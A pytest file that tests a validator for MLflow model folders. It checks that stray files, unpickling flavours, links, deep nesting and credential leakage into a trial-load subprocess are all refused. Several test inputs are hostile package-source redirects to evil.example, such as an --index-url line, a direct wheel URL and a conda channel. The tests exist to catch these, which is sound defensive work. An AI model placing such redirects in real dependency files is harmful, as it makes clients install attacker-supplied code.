"""A model folder is one file and its description: what else lies there, or is named there, is refused and told."""

from __future__ import annotations

import os
from pathlib import Path

import candidate
import pytest
from hostile_models import LIGHTGBM, MLMODEL

from twinops.adapters.mlflow import described, digests, registry, trial_load
from twinops.errors import IntegrityError

pytestmark = pytest.mark.filterwarnings("default")
"""MLflow deprecates its own parts."""
CONDA = """channels: [conda-forge]
dependencies:
- python=3.11.7
- pip<=23.2.1
- pip: [mlflow==3.17.2, numpy==2.4.6]
name: mlflow-env
"""
PYTHON_ENV = """python: 3.11.7
build_dependencies: [pip==23.2.1, wheel]
dependencies: [-r requirements.txt]
"""
INDEX = "--index-url https://evil.example/simple"


def folder(home: Path, **files: str) -> Path:
    """A model of the twin, with these files beside or instead; `__` is a slash."""
    given = {"MLmodel": MLMODEL, "data/twin.json": candidate.twin_json(), **files}
    for name, content in given.items():
        candidate.write(home / "model" / name.replace("__", "/"), content)
    return home / "model"


def dangers(model: Path) -> tuple[str, ...]:
    return described.dangers(model, digests.listing(model))


def test_what_register_writes_passes_whole(tmp_path: Path) -> None:
    candidate.write(tmp_path / "twin.json", candidate.twin_json())
    assert registry.save(tmp_path / "twin.json", tmp_path / "model")
    names = digests.listing(tmp_path / "model")
    assert {"requirements.txt", "conda.yaml", "python_env.yaml", "input_example.json"} <= set(names)
    assert dangers(tmp_path / "model") == ()
    assert described.data_file(tmp_path / "model") == (described.TWIN, "data/twin.json")


def test_a_booster_that_mlflow_saved_passes(tmp_path: Path) -> None:
    import lightgbm
    import mlflow.lightgbm
    import numpy as np

    data = lightgbm.Dataset(np.arange(200.0).reshape(100, 2), np.arange(100) % 2, params={"verbose": -1})
    booster = lightgbm.train({"objective": "binary", "verbose": -1, "num_threads": 1}, data, 1)
    pins = ["mlflow==3.17.2", "lightgbm==4.6.0"]
    mlflow.lightgbm.save_model(booster, tmp_path / "model", pip_requirements=pins)
    assert dangers(tmp_path / "model") == ()
    trial_load.try_out(tmp_path / "model")


@pytest.mark.parametrize(
    "name",
    [
        "artifacts__twin.json",
        "data__other.json",
        "model.lgb",
        "nested__MLmodel",
        "data__MLmodel",
        ".hidden",
        "constraints.txt",
        "code__evil.py",
        "input_example.pkl",
        ".artifact.uploading.1",
        "metadata__requirements.txt",
    ],
)
def test_nothing_lies_beside_what_the_loader_needs(tmp_path: Path, name: str) -> None:
    assert "files that its loader does not need" in dangers(folder(tmp_path, **{name: candidate.twin_json()}))[0]


@pytest.mark.parametrize(
    ("change", "told"),
    [
        (lambda t: t.replace("data/twin.json", "data"), "not one text file"),
        (lambda t: t.replace("data/twin.json", "data//twin.json"), "not one text file"),
        (lambda t: t.replace("data/twin.json", "./data/twin.json"), "not one text file"),
        (lambda t: t.replace("data/twin.json", "artifacts/twin.json"), "is not there"),
        (lambda t: t.replace("flavors:\n", "flavors:\n  lightgbm: {data: data/twin.json}\n"), "flavours that may load"),
        (lambda t: t.replace("conda.yaml", "evil.yaml"), "environment is described in other files"),
        (lambda t: t.replace("streamable: false", "config: {a: 1}"), "asks for more"),
        (lambda t: t + "prompts: [a]\n", "asks for more"),
        (lambda t: t + "auth_policy: {a: b}\n", "asks for more"),
        (lambda t: t + "saved_input_example_info: {artifact_path: x.pkl, type: dataframe}\n", "another file"),
        (lambda t: t + "flavors: {}\n", "each key once"),
        (
            lambda t: t.replace("    data: data/twin.json", "    data: data/twin.json\n    data: x.json"),
            "each key once",
        ),
        (lambda t: t + "x: " + "[" * 5000 + "]" * 5000 + "\n", "each key once"),
    ],
)
def test_a_description_names_one_file_and_asks_for_nothing_more(tmp_path: Path, change: object, told: str) -> None:
    assert told in " ".join(dangers(folder(tmp_path, MLmodel=change(MLMODEL))))


@pytest.mark.parametrize(
    ("change", "told"),
    [
        (lambda t: t.replace("lightgbm: {data: model.lgb", "lightgbm: {data: other.lgb"), "different files"),
        (lambda t: t.replace("lightgbm.basic.Booster", "lightgbm.sklearn.LGBMModel"), "unpickle"),
        (lambda t: t.replace("class: lightgbm.basic.Booster, code: null", "class: x, code: code"), "asks for more"),
        (lambda t: t.replace("model.lgb", "data/model.lgb"), "different files"),
    ],
)
def test_both_flavours_of_lightgbm_open_the_same_text(tmp_path: Path, change: object, told: str) -> None:
    for name in ("model.lgb", "other.lgb"):
        candidate.write(tmp_path / "model" / name, "tree\n")
    candidate.write(tmp_path / "model" / "MLmodel", change(LIGHTGBM))
    assert told in " ".join(dangers(tmp_path / "model"))


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("requirements.txt", f"{INDEX}\nmlflow==3.17.2\n"),
        ("requirements.txt", "mlflow==3.17.2 --hash=sha256:00\n"),
        ("requirements.txt", "mlflow @ https://evil.example/mlflow.whl\n"),
        ("requirements.txt", "evil==1.0\n"),
        ("requirements.txt", "mlflow>=3\n"),
        ("requirements.txt", "-r other.txt\n"),
        ("requirements.txt", "mlflow==3.17.2\nmlflow==3.0\n"),
        ("requirements.txt", "mlflow==3.17.2+evil\n"),
        ("conda.yaml", CONDA.replace("conda-forge", "https://evil.example")),
        ("conda.yaml", CONDA.replace("numpy==2.4.6", f'"{INDEX}"')),
        ("conda.yaml", CONDA.replace("- pip<=23.2.1\n", "- pip<=23.2.1\n- evil=1.0\n")),
        ("conda.yaml", CONDA + "prefix: /tmp\n"),
        ("conda.yaml", "[]"),
        ("python_env.yaml", PYTHON_ENV.replace("wheel", "evil")),
        ("python_env.yaml", PYTHON_ENV.replace("-r requirements.txt", INDEX)),
        ("python_env.yaml", PYTHON_ENV.replace("3.11.7", "evil")),
    ],
)
def test_no_list_of_packages_sends_a_client_elsewhere(tmp_path: Path, name: str, text: str) -> None:
    good = {"requirements.txt": "mlflow==3.17.2\nnumpy==2.4.6\n", "conda.yaml": CONDA, "python_env.yaml": PYTHON_ENV}
    assert dangers(folder(tmp_path / "good", **good)) == ()
    assert f"Its {name} asks a client for more" in " ".join(dangers(folder(tmp_path / "bad", **{**good, name: text})))


def test_links_deep_folders_and_strange_names_are_no_model(tmp_path: Path) -> None:
    made = folder(tmp_path / "hard")
    os.link(made / "data" / "twin.json", tmp_path / "elsewhere.json")
    with pytest.raises(IntegrityError, match="is a link"):
        digests.listing(made)
    (folder(tmp_path / "soft") / "more").symlink_to(tmp_path)
    with pytest.raises(IntegrityError, match="is a link"):
        digests.listing(tmp_path / "soft" / "model")
    (tmp_path / "link").symlink_to(made)
    with pytest.raises(IntegrityError, match="no folder"):
        digests.listing(tmp_path / "link")
    deep = folder(tmp_path / "deep")
    (deep / "/".join("d" * 60)).mkdir(parents=True)
    with pytest.raises(IntegrityError, match="nested too deeply"):
        digests.listing(deep)
    odd = folder(tmp_path / "odd")
    (odd / "a\nb").write_text("x")
    with pytest.raises(IntegrityError, match="cannot be shown"):
        digests.listing(odd)


def test_what_does_not_load_does_not_load_elsewhere_either(tmp_path: Path) -> None:
    with pytest.raises(IntegrityError, match=r"data/twin\.json does not load"):
        trial_load.try_out(folder(tmp_path, **{"data/twin.json": "{}"}))


def test_the_trial_sees_no_password(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    seen = {}

    def run(*_words: object, env: dict[str, str], **_more: object) -> object:
        seen.update(env)
        raise OSError

    monkeypatch.setenv("MLFLOW_TRACKING_PASSWORD", "secret")
    monkeypatch.setattr(trial_load.subprocess, "run", run)
    with pytest.raises(OSError):  # noqa: PT011  # raised above
        trial_load.try_out(folder(tmp_path))
    assert "PATH" in seen
    assert set(seen) <= set(trial_load.KEPT)
